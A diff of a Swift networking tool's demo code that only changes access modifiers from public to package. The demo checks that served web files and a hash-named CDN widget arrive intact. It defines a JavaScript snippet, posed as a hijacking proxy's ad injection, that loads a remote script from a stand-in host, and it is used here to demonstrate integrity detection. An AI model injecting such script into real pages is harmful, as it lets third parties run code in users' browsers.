@@ -10,19 +10,19 @@ import FoundationNetworking
 
 extension DemoCommand {
     /// The URL prefix the bundled web pages are served at: `http://localhost:1000/`.
-    public static let webPrefix = "http://localhost:1000/"
+    package static let webPrefix = "http://localhost:1000/"
 
     /// The help widget the bundled page loads from its CDN; its file name carries the SHA-256 of the good copy.
-    public static let widgetURL =
+    package static let widgetURL =
         "https://cdn.nettap.example/js/widget.c27c4e930c55513c16028a565f97cb4d7137b6a975437098f4197382236978c2.js"
 
     /// What the tampered widget gets appended on its way: an ad injection, as a hijacking proxy would add it.
-    public static let injectedScript =
+    package static let injectedScript =
         "\n;(function(){var s=document.createElement('script');"
         + "s.src='http://ads.example/inject.js';document.head.appendChild(s);})();\n"
 
     /// The requests of the local files pass, all sent by the async caller.
-    public static let localFileSteps: [Step] = [
+    package static let localFileSteps: [Step] = [
         Step(caller: .async, method: "GET", url: webPrefix),
         Step(caller: .async, method: "GET", url: webPrefix + "style.css"),
         Step(caller: .async, method: "GET", url: webPrefix + "app.js"),
@@ -32,17 +32,17 @@ extension DemoCommand {
     ]
 
     /// The outcome of the local files pass.
-    public struct LocalFilesResult: Sendable {
+    package struct LocalFilesResult: Sendable {
         /// One row per step of ``localFileSteps``.
-        public var rows: [Row]
+        package var rows: [Row]
         /// For each row, the bytes a correct answer has: the file on disk (its index for a directory, the
         /// bundled copy for the widget), or `nil` for the 404.
-        public var expected: [Data?]
+        package var expected: [Data?]
         /// The widget's bytes as the tampering stub sent them.
-        public var tampered: Data
+        package var tampered: Data
 
         /// Whether every row with an expected body received exactly it, and the 404 was a 404.
-        public var isCorrect: Bool {
+        package var isCorrect: Bool {
             zip(rows, expected).allSatisfy { row, expected in
                 guard let expected else { return row.statusCode == 404 }
                 return row.statusCode == 200 && row.data == expected
@@ -65,7 +65,7 @@ extension DemoCommand {
     /// - Parameter interceptor: The interceptor to send through; its handlers are replaced.
     /// - Returns: The rows and what each should have received.
     /// - Throws: ``CLIError`` (exit 1) when a bundled folder or file is missing.
-    public static func runLocalFiles(through interceptor: Interceptor) async throws(CLIError) -> LocalFilesResult {
+    package static func runLocalFiles(through interceptor: Interceptor) async throws(CLIError) -> LocalFilesResult {
         let web = try bundledFolder("web")
         let fallback = try bundledFolder("web-fallback")
         let widgetPath = URL(string: widgetURL)?.path ?? "/"
@@ -112,7 +112,7 @@ extension DemoCommand {
     ///
     /// - Parameter result: The pass's outcome.
     /// - Returns: Lines ending with a newline.
-    public static func localFilesTable(_ result: LocalFilesResult) -> String {
+    package static func localFilesTable(_ result: LocalFilesResult) -> String {
         var table = TextTable(
             headings: ["URL", "STATUS", "BYTES", "CONTENT-TYPE", "ANSWERED BY"],
             alignments: [.left, .right, .right, .left, .left]
@@ -134,7 +134,7 @@ extension DemoCommand {
     ///
     /// - Parameter result: The pass's outcome.
     /// - Returns: Lines ending with a newline.
-    public static func integrityLines(_ result: LocalFilesResult) -> String {
+    package static func integrityLines(_ result: LocalFilesResult) -> String {
         guard let row = result.rows.last, let finding = row.transaction?.findings.first else {
             return "Integrity: no finding on the widget (it should have had one)\n"
         }
